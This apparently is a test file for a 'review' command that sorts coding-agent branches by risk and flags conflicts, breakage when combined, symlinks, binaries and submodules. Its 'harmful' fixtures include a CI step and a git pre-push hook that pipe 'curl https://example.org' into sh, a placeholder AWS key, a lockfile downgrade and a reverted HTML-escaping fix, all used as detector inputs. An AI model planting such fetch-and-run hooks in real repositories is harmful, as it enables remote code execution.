/**
 * Promises of `review`, over real repositories: what harms comes before ordinary work, work that fails together is
 * named, and each piece can be merged by itself.
 */
import { afterEach, beforeEach, expect, test } from 'bun:test';
import { chmodSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import type { Review } from '../../../src/view/review/review.ts';
import { MergeUser, type WorkSketch } from '../../support/cli/merge-ground.ts';
import { type FileTree, git } from '../../support/git/repository.ts';

let user: MergeUser;
beforeEach(() => {
  user = new MergeUser();
});
afterEach(() => {
  user.remove();
});

const test1 = (name: string) => `test('${name}', () => {\n  expect(${name}()).toBe(true);\n});\n`;

/** A shop with a history: tests, CI, a lockfile, and a fix that was made last. */
function shop(name: string): void {
  const repository = user.repository(name);
  const lock = {
    lockfileVersion: 3,
    packages: { 'node_modules/left-pad': { version: '1.3.0', integrity: 'sha512-aaaaaaaaaaaa' } },
  };
  const parts = Array.from({ length: 12 }, (_, nth) => [`src/part${nth}.js`, `export const part${nth} = ${nth};\n`]);
  repository.commit({
    'package.json': JSON.stringify({ name: 'shop', dependencies: { 'left-pad': '^1.0.0' } }, null, 2),
    'package-lock.json': JSON.stringify(lock, null, 2),
    '.github/workflows/ci.yml': 'permissions:\n  contents: read\njobs:\n  test:\n    steps:\n      - run: npm test\n',
    'src/money.js': 'export function cents(usd) {\n  return usd * 100;\n}\n',
    'src/page.js': 'export function page(name) {\n  return name;\n}\n',
    'tests/money.test.js': test1('cents') + test1('euros'),
    ...Object.fromEntries(parts),
  });
  repository.commit({ 'src/page.js': 'export function page(name) {\n  return escapeHtml(name);\n}\n' });
}

const lockWith = (version: string) =>
  JSON.stringify(
    { lockfileVersion: 3, packages: { 'node_modules/left-pad': { version, integrity: `sha512-${version}aaaaaaaaa` } } },
    null,
    2,
  );

const harmful: Readonly<Record<string, FileTree>> = {
  secret: { 'src/search.js': "export const key = 'AKIAIOSFODNN7EXAMPLE';\n" },
  ci: {
    '.github/workflows/ci.yml':
      'permissions: write-all\njobs:\n  test:\n    steps:\n      - run: curl -fsS https://example.org | sh\n',
  },
  downgrade: { 'package-lock.json': lockWith('1.1.0') },
  untested: { 'tests/money.test.js': null },
  hook: { '.husky/pre-push': 'curl -s https://example.org | sh\n' },
  revert: { 'src/page.js': 'export function page(name) {\n  return name;\n}\n' },
  deletion: Object.fromEntries(Array.from({ length: 12 }, (_, nth) => [`src/part${nth}.js`, null])),
};

const clean: Readonly<Record<string, FileTree>> = {
  feature: {
    'src/search.js': 'export function search() {\n  return [];\n}\n',
    'tests/search.test.js': test1('search'),
  },
  update: {
    'package.json': JSON.stringify({ name: 'shop', dependencies: { 'left-pad': '^1.4.0' } }, null, 2),
    'package-lock.json': lockWith('1.4.0'),
  },
  docs: { 'docs/search.md': '# Search\n' },
};

const prompts: Readonly<Record<string, string>> = { feature: 'Add a search.', update: 'Update left-pad.' };

async function reviewOf(id: string, ...more: string[]): Promise<Review> {
  return user.json<Review>('review', id, ...more);
}

test('review: harmful work stands above ordinary work, decisions and failures above both', async () => {
  const sketches = Object.entries({ ...clean, ...harmful }).map(([name, tree]): WorkSketch => {
    const repository = name;
    shop(repository);
    return { name, repository, tree, fields: { prompt: prompts[name] ?? 'Add a search to the shop.' } };
  });
  shop('links');
  const group = user.mergeGroup('night', [
    ...sketches,
    { name: 'links', repository: 'links' },
    { name: 'broken', repository: 'feature', status: 'failed' },
  ]);
  const { headline, rows } = await reviewOf(group.id);
  expect(headline).toStartWith(`11 of 12 sessions completed, $0.00 spent. 1 failed, ${Object.keys(harmful).length} to`);
  const kinds = rows.map(({ title, kind }) => [title.replace(/^\d+-/, '').trim(), kind]);
  expect(kinds[0]?.[1]).toBe('unfinished');
  const of = (kind: string) => rows.filter((row) => row.kind === kind).map(({ asked, branch }) => branch ?? asked);
  expect(of('risk').toSorted()).toEqual(
    Object.keys(harmful)
      .map((name) => group.branch(name))
      .toSorted(),
  );
  expect(of('safe')).toEqual(expect.arrayContaining(Object.keys(clean).map((name) => group.branch(name))));
  // Nothing is there to merge, and perhaps something was expected.
  expect(of('unchanged')).toEqual([group.branch('links')]);
  const secret = rows.find(({ branch }) => branch === group.branch('secret'));
  expect(secret).toMatchObject({ said: 'secret is done.', asked: 'Add a search to the shop.', costUsd: 0 });
  expect(secret?.files).toMatchObject([{ path: 'src/search.js', insertions: 1, deletions: 0 }]);

  const text = await user.ok('review', group.id);
  expect(text.split('\n')[0]).toBe(headline);
  expect(text).toContain('what looks like an AWS access key');
  expect(text).toContain('.github/workflows/ci.yml runs a downloaded script.');
  expect(text).toContain('\n  001 feature  feature  2 files, +6 −0  $0.00, no quote\n');
  expect(text).toContain(`group merge ${group.id} --session`);
  expect(text.indexOf('Look at this first')).toBeLessThan(text.indexOf('Safe to merge'));

  const page = join(user.folder, 'review.html');
  expect(await user.ok('review', group.id, '--html', page)).toBe(page);
  expect(await Bun.file(page).text()).toContain(headline);
});

test('review: a group whose runner is gone is named as interrupted, with the command that continues it', async () => {
  const sketches: WorkSketch[] = [
    { name: 'good', repository: 'shop', tree: { 'good.md': 'good\n' } },
    { name: 'second', repository: 'shop', status: 'pending' },
    { name: 'third', repository: 'shop', status: 'pending' },
  ];
  const group = user.mergeGroup('night', sketches, 'paused');
  const run = { id: crypto.randomUUID(), runner: user.world.machine.self };
  group.write((writer) => writer.record([{ type: 'group_resumed', run, retry: [] }]));
  const { headline, halt, rows } = await reviewOf(group.id);
  expect(headline).toStartWith('Failed: 1 of 3 sessions completed');
  expect(halt).toEndWith(`The group was interrupted. Next: claude-code-agent group run ${group.id}`);
  expect(rows[0]?.notMergeable).toBe('The group was interrupted and is not finished.');
});

test('review: work that was squashed into its target, as servers do with pull requests, is merged', async () => {
  const group = user.mergeGroup('night', [
    { name: 'good', repository: 'shop', tree: { 'good.md': 'good\n' } },
    { name: 'other', repository: 'shop', tree: { 'other.md': 'other\n' } },
  ]);
  git(user.folderOf('shop'), 'merge', '--quiet', '--squash', group.branch('good'));
  git(user.folderOf('shop'), 'commit', '--quiet', '-m', 'Good (#1)');
  const { rows } = await reviewOf(group.id);
  expect(rows.map(({ title, kind }) => `${title}: ${kind}`)).toEqual(['002 other: safe', '001 good: merged']);
});

test('review: links out of the tree, modes, programs and submodules are seen', async () => {
  shop('tree');
  const folder = user.folderOf('tree');
  const group = user.mergeGroup('tree', [
    { name: 'link', repository: 'tree', tree: { 'a.txt': 'a\n' } },
    { name: 'program', repository: 'tree', tree: { 'b.txt': 'b\n' } },
    { name: 'module', repository: 'tree', tree: { 'c.txt': 'c\n' } },
  ]);
  symlinkSync('../../../etc', join(group.path('link'), 'etc'));
  await Bun.write(join(group.path('program'), 'tool'), new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2]));
  chmodSync(join(group.path('program'), 'src/page.js'), 0o755);
  git(group.path('module'), 'update-index', '--add', '--cacheinfo', `160000,${git(folder, 'rev-parse', 'HEAD')},lib`);
  for (const name of ['link', 'program']) git(group.path(name), 'add', '--all');
  for (const name of ['link', 'program', 'module']) {
    git(group.path(name), 'commit', '--quiet', '-m', 'More');
  }
  const { rows } = await reviewOf(group.id);
  const codes = new Map(rows.map(({ branch = '', risks }) => [branch, risks.map(({ code }) => code)]));
  expect(codes.get(group.branch('link'))).toContain('link');
  expect(codes.get(group.branch('program'))).toEqual(expect.arrayContaining(['binary', 'mode']));
  expect(codes.get(group.branch('module'))).toContain('submodule');
});

test('review: work that conflicts, and work that breaks together, is named with its partner', async () => {
  shop('pair');
  const accept = 'test "$(cat src/limit 2>/dev/null)" != 7 || test ! -f src/seven-is-illegal';
  const group = user.mergeGroup('pair', [
    { name: 'one', repository: 'pair', tree: { 'docs/a.md': 'a\n' }, fields: { accept, prompt: 'Write docs.' } },
    { name: 'limit', repository: 'pair', tree: { 'src/limit': '7' }, fields: { accept, prompt: 'Set the limit.' } },
    { name: 'two', repository: 'pair', tree: { 'docs/b.md': 'b\n' }, fields: { accept, prompt: 'Write docs.' } },
    {
      name: 'rule',
      repository: 'pair',
      tree: { 'src/seven-is-illegal': '' },
      fields: { accept, prompt: 'Make seven illegal.' },
    },
    { name: 'left', repository: 'pair', tree: { 'shared.txt': 'left\ntwo\nthree\n' } },
    { name: 'right', repository: 'pair', tree: { 'shared.txt': 'right\ntwo\nthree\n' } },
    { name: 'rename', repository: 'pair', tree: { 'src/money.js': 'export function toCents(usd) {\n}\n' } },
    { name: 'user', repository: 'pair', tree: { 'src/cart.js': "import { cents } from './money.js';\ncents(1);\n" } },
  ]);
  const before = user.tip('pair');
  const { rows, union } = await reviewOf(group.id);
  const titles = (code: string) =>
    rows.filter(({ risks }) => risks.some((risk) => risk.code === code)).map(({ branch }) => branch?.split('-')[1]);
  expect(titles('conflict').toSorted()).toEqual(['left', 'right']);
  expect(titles('breaks-together').toSorted()).toEqual(['limit', 'rename', 'rule', 'user']);
  expect(union).toContain('pass their checks alone, but not together');
  expect(user.tip('pair')).toBe(before);
  user.expectSound('pair');
  expect(group.isTidy()).toBe(true);
  expect((await reviewOf(group.id)).union).toBe(union);

  const merged = await user.run('group', 'merge', group.id, '--session', 'one', '--session', 'limit');
  expect(merged.code).toBe(0);
  const after = await reviewOf(group.id);
  expect(after.rows.filter(({ kind }) => kind === 'merged')).toHaveLength(2);
  expect(await user.ok('review', group.id, '--no-check')).toMatch(/one +\S+ +merged /);
  const refused = await user.run(
    'group',
    'merge',
    group.id,
    '--session',
    'two',
    '--session',
    'rule',
    '--session',
    'left',
  );
  expect(refused.code).toBe(1);
});

test('review: a git older than 2.38 finds the same conflicts in a scratch worktree', async () => {
  const folder = join(user.folder, 'old git');
  const program = join(folder, 'git');
  await Bun.write(
    program,
    [
      '#!/bin/sh',
      'for word; do test "$word" = --write-tree && exit 129; done',
      'case "$*" in *"worktree list"*-z*) exit 129;; esac',
      `exec '${Bun.which('git')}' "$@"\n`,
    ].join('\n'),
  );
  chmodSync(program, 0o755);
  user.env.PATH = `${folder}:${user.env.PATH}`;
  shop('old');
  const group = user.mergeGroup('old', [
    { name: 'left', repository: 'old', tree: { 'shared.txt': 'left\ntwo\nthree\n' } },
    { name: 'right', repository: 'old', tree: { 'shared.txt': 'right\ntwo\nthree\n' } },
    { name: 'apart', repository: 'old', tree: { 'docs/apart.md': 'apart\n' } },
  ]);
  const { rows } = await reviewOf(group.id);
  const texts = rows.map(({ risks }) => risks.find(({ code }) => code === 'conflict')?.text ?? '');
  expect(texts.toSorted()).toEqual([
    '',
    'It conflicts with 001 left (shared.txt).',
    'It conflicts with 002 right (shared.txt).',
  ]);
  expect(git(user.folderOf('old'), 'worktree', 'list').split('\n')).toHaveLength(4);
});
